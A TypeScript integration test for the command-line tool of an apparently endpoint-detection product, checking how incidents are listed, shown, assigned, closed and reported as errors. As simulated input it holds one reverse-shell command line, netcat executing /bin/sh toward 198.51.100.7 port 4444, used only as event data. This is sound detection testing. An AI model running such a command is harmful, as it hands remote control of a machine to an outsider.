// Incidents as operators type them: a real site and detector in this process, the command as a program of its own.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { encodeBatch } from "@picket/protocol/batch";
import type { Incident } from "@picket/protocol/incident";
import { afterAll, beforeAll, expect, test } from "vitest";
import { BOOT, connect, enrol, mine, type TestSite, testSite } from "../../broker/testing/site.ts";
import { DetectorConfig } from "../../detector/config.ts";
import { type Detector, detectorOptions, startDetector } from "../../detector/main.ts";
import { child, exec, proc } from "../../detector/testing/events.ts";

const main = new URL("../main.ts", import.meta.url).pathname;
let site: TestSite;
let folder: string;
let detector: Detector;
/** On gw-1: a netcat that hands out a shell. */
let id: string;

beforeAll(async () => {
  site = await testSite();
  folder = mkdtempSync(join(tmpdir(), "picket-incidents-"));
  const access = { url: `https://127.0.0.1:${site.broker.httpsPort}`, ca: site.ca, token: site.token, site: "yard" };
  writeFileSync(join(folder, "site.json"), JSON.stringify(access));
  const config = {
    dir: site.dir,
    host: "localhost",
    port: site.broker.mqttPort,
    scan: false,
    models: { cmdline: false, behaviour: false },
  };
  detector = await startDetector(await detectorOptions(DetectorConfig.parse(config), () => {}));
  expect((await picket("incidents")).out).toBe("No incident matches.\n");
  const device = await enrol(site, "gw-1");
  const client = await connect(site, device);
  const netcat = child(100, "/usr/bin/nc", proc(9, "/usr/sbin/cron"), { argv: ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"] });
  const events = [exec(Date.now() - 1_767_225_600_000, netcat, { device: "gw-1", seq: 0 })];
  await client.publishAsync(mine(device, "events"), Buffer.from(encodeBatch({ boot: BOOT, oldest: 0, events })), { qos: 1 });
  await client.endAsync(true);
  // Each turn waits for a whole program: no busy loop.
  let listed = "";
  while (listed === "") listed = (await picket("incidents", "--severity", "high", "--json")).out;
  id = (JSON.parse(listed.split("\n")[0]!) as Incident).id;
}, 60_000);
afterAll(async () => {
  await detector?.[Symbol.asyncDispose]();
  await site?.[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true, force: true });
});

async function picket(...args: string[]) {
  const program = Bun.spawn([process.execPath, main, "--home", folder, ...args], {
    ...{ cwd: folder, stdin: "ignore", stdout: "pipe", stderr: "pipe" },
  });
  const [out, err, code] = await Promise.all([new Response(program.stdout).text(), new Response(program.stderr).text(), program.exited]);
  return { out, err, code };
}

test("the list has one line an incident; its page says what happened, what to do, and its alerts", async () => {
  const { out } = await picket("incidents", "--device", "gw-1");
  expect(out.split("\n")[0]).toMatch(/^id +time +severity +status +alerts +device +incident +how far it went$/);
  expect(out).toContain(`${id.slice(0, 8)}  `);
  const shown = (await picket("incident", id.slice(0, 6))).out;
  const places = ["What happened", "cron (pid 9) started nc (pid 100", "What to do", "picket isolate gw-1", "Alerts", "Process tree"];
  const found = places.map((words) => shown.indexOf(words));
  expect(found).toEqual(found.toSorted((a, b) => a - b));
  expect(found[0]).toBeGreaterThan(0);
  const json = JSON.parse((await picket("incident", id, "--json")).out) as { incident: Incident; alerts: unknown[] };
  expect(json).toMatchObject({ incident: { id, device: "gw-1", status: "open" } });
  expect(json.alerts).toHaveLength(json.incident.alerts);
}, 60_000);

test("a decision about an incident is one about all its alerts, and is said", async () => {
  const [start, some] = [id.slice(0, 8), /, \d+ alerts?\.\n$/];
  expect((await picket("incident", start, "assign", "anna")).out).toMatch(new RegExp(`^${id} is open, assigned to anna`));
  const closed = await picket("incident", start, "close", "--false-positive", "--note", "a drill");
  expect(closed.out).toMatch(/ is closed as a false positive, assigned to anna/);
  expect(closed.out).toMatch(some);
  expect((await picket("alerts", "--status", "open")).out).toBe("No alert matches.\n");
  expect((await picket("incident", start)).out).toMatch(/Notes\n {2}.* operator: a drill/);
  expect((await picket("incidents", "--status", "open")).out).toBe("No incident matches.\n");
  expect((await picket("incident", start, "open")).out).toContain(" is open");
}, 60_000);

test.each<[string, string[], number, RegExp]>([
  ["an id that is none", ["incident", "NOPE"], 2, /"NOPE" is not an incident's id[\s\S]*`picket incidents` lists them/],
  ["the start of no id", ["incident", "0123456789"], 1, /no incident's id begins with 0123456789/],
  ["the id of none", ["incident", "6f2b4c1e-0000-4000-8000-000000000000"], 1, /incident/],
  ["a device that is not at the site", ["incidents", "--device", "gw-9"], 1, /gw-9/],
  ["a severity there is not", ["incidents", "--severity", "awful"], 2, /Allowed choices are low, medium, high, critical/],
  ["two verdicts", ["incident", "6f2b", "close", "--true-positive", "--false-positive"], 2, /real or it was not/],
  ["a verdict without closing", ["incident", "6f2b", "ack", "--false-positive"], 2, /go with close/],
  ["a note without a text", ["incident", "6f2b", "note"], 2, /note needs a text of 1 to 2000 characters/],
  ["a text for closing", ["incident", "6f2b", "close", "drill"], 2, /picket incident ID note TEXT/],
])("%s is an error that says what to do", async (_, args, exit, words) => {
  const { code, err, out } = await picket(...args);
  expect([code, out]).toEqual([exit, ""]);
  expect(err).toMatch(words);
});
